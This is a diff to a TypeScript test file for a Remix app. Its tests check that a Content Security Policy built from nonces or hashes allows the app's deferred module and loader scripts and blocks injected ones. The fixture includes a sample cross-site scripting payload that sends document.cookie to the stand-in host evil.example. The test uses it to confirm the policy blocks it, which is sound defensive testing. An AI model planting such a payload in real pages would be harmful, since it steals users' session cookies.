@@ -3,12 +3,13 @@ import { createHash } from 'node:crypto';
 import { describe, expect, test } from 'vitest';
 import { DEFERRED_TYPE, deferScripts, trustByHash } from './deferred-scripts.server';
 import { COLOUR_MODE } from '../shell/colour-mode';
-import { DEFERRED_SCRIPT_LOADER } from './deferred-script-loader';
+import { deferredScriptLoader } from './deferred-script-loader';
 import { contentSecurityPolicy, sha256 } from '../security/policy.server';
 
 const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
 const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.js");';
 const DATA = 'window.__remixContext.streamController.enqueue("data");';
+const LOADER = { startsWhenIdle: true, registersWorker: true };
 const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
 
 /** A page as Remix renders it, with two injected scripts. */
@@ -18,10 +19,11 @@ const page = [
   `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
   '<link rel="modulepreload" href="/assets/root.js"/><link rel="modulepreload" href="/assets/home.js"/>',
   `<script nonce="${NONCE}">window.__remixContext = {};</script>`,
-  `<script nonce="${NONCE}" type="module" async="">${MODULE}</script>`,
-  `<script nonce="${NONCE}">${DEFERRED_SCRIPT_LOADER}</script></body></html>`,
+  `<script nonce="${NONCE}" type="module" async="">${MODULE}</script></body></html>`,
   `<!--$--><script nonce="${NONCE}">${DATA}</script><!--$--><!--/$--><!--/$-->`,
 ].join('');
+
+const deferred = deferScripts(page, LOADER);
 
 /** Returns true for each inline script that a browser would run under `script-src` of this policy. */
 function inlineScripts(html: string, policy: string) {
@@ -40,8 +42,8 @@ function inlineScripts(html: string, policy: string) {
 }
 
 describe.each([
-  ['nonce', { html: page, trust: { kind: 'nonce', nonce: NONCE } as const }],
-  ['hash', trustByHash(page, NONCE)],
+  ['nonce', { html: deferred, trust: { kind: 'nonce', nonce: NONCE } as const }],
+  ['hash', trustByHash(deferred, NONCE)],
 ])('a policy with scripts allowed by %s', (_, { html, trust }) => {
   const policy = contentSecurityPolicy(trust, sha256('body{}'));
 
@@ -51,10 +53,10 @@ describe.each([
     for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
   });
 
-  test('allows the text of the deferred module script', () => {
-    // deferred-script-loader.ts copies the text of the inert script into a new script.
-    const scripts = inlineScripts(deferScripts(html), policy);
-    expect(scripts.find(({ text }) => text === MODULE)?.allowed).toBe(true);
+  test('allows the deferred module script, whose text the loader copies, and the loader', () => {
+    const texts = inlineScripts(html, policy).map(({ text }) => text);
+    expect(texts).toContain(MODULE);
+    expect(texts.at(-1)).toBe(deferredScriptLoader(LOADER));
   });
 });
 
@@ -65,8 +67,6 @@ test('a page with scripts allowed by hash does not contain the nonce', () => {
 });
 
 describe('deferScripts', () => {
-  const deferred = deferScripts(page);
-
   test('turns the module script into an inert script that lists its preloads', () => {
     expect(deferred).not.toContain('type="module"');
     expect(deferred).not.toContain('<link');
@@ -81,17 +81,17 @@ describe('deferScripts', () => {
     expect(deferred).not.toContain('<!--');
     const texts = (html: string) =>
       [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text);
-    expect(texts(deferred)).toEqual(texts(page));
+    expect(texts(deferred)).toEqual([...texts(page), deferredScriptLoader(LOADER)]);
   });
 
   test('removes only the streamed markers after </html> from a page without scripts', () => {
     const light = '<html><body><p>light</p></body></html>';
-    expect(deferScripts(`${light}<!--$--><!--/$-->`)).toBe(light);
+    expect(deferScripts(`${light}<!--$--><!--/$-->`, LOADER)).toBe(light);
   });
 });
 
 test('the inline scripts contain no text that would end the script element', () => {
-  for (const script of [COLOUR_MODE, DEFERRED_SCRIPT_LOADER])
+  for (const script of [COLOUR_MODE, deferredScriptLoader(LOADER)])
     expect(script).not.toMatch(/<\/|<!--/);
 });
 
